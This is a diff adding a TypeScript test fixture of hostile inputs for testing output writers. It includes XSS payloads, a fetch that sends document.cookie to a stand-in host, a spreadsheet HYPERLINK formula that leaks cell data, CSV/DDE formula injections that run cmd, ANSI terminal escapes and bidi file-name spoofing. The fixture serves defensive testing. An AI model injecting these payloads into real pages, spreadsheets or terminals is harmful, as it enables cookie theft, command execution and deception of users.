@@ -1,0 +1,31 @@
+/**
+ * The hostile names and values every writer is tested with: in column names, category values,
+ * file names. Each class of attack once, so that a new writer's test covers them all.
+ */
+export const HOSTILE: readonly { label: string; text: string }[] = [
+  { label: "event attribute split: name half", text: "c onerror=a" },
+  { label: "event attribute split: value half", text: '" onload="fetch(\'//x.test/\'+document.cookie)" x="' },
+  { label: "single-quote attribute break", text: "' onmouseover='alert(1)' '" },
+  { label: "unquoted attribute break", text: "a onfocus=alert(1) autofocus" },
+  { label: "script element", text: "</script><script>alert(1)</script>" },
+  { label: "comment opener", text: "<!-- x" },
+  { label: "CDATA and comment end", text: "<![CDATA[ --> ]]>" },
+  { label: "javascript: URL", text: "javascript:alert(document.domain)" },
+  { label: "SVG onload", text: '<svg onload="alert(1)"><circle r="9"/></svg>' },
+  { label: "img onerror", text: "<img src=x onerror=alert(1)>" },
+  { label: "entity: named", text: "&lt;script&gt;alert(1)&lt;/script&gt;" },
+  { label: "entity: hex", text: "&#x3c;svg onload=alert(1)&#x3e;" },
+  { label: "closing style and title", text: "</style></title><script>alert(1)</script>" },
+  { label: "css url", text: "x{background:url(http://x.test/a)}" },
+  { label: "RTL override", text: "invoice\u202Egnp.exe" },
+  { label: "bidi isolates", text: "a\u2066b\u2067c\u2068d\u2069e\u202Af\u202Bg\u202Ch\u202Di" },
+  { label: "NUL", text: "a\u0000b" },
+  { label: "ANSI clear screen", text: "\u001b[2J\u001b[Hgone" },
+  { label: "ANSI window title (OSC)", text: "\u001b]0;pwned\u0007x" },
+  { label: "C1 CSI and DEL", text: "\u009b31mred\u007f" },
+  { label: "carriage return overwrite", text: "good\rbad" },
+  { label: "formula", text: '=HYPERLINK("http://x.test/?"&A1,"click")' },
+  { label: "formula +", text: "+cmd|' /C calc'!A0" },
+  { label: "formula @", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
+  { label: "prototype key", text: "__proto__" },
+];
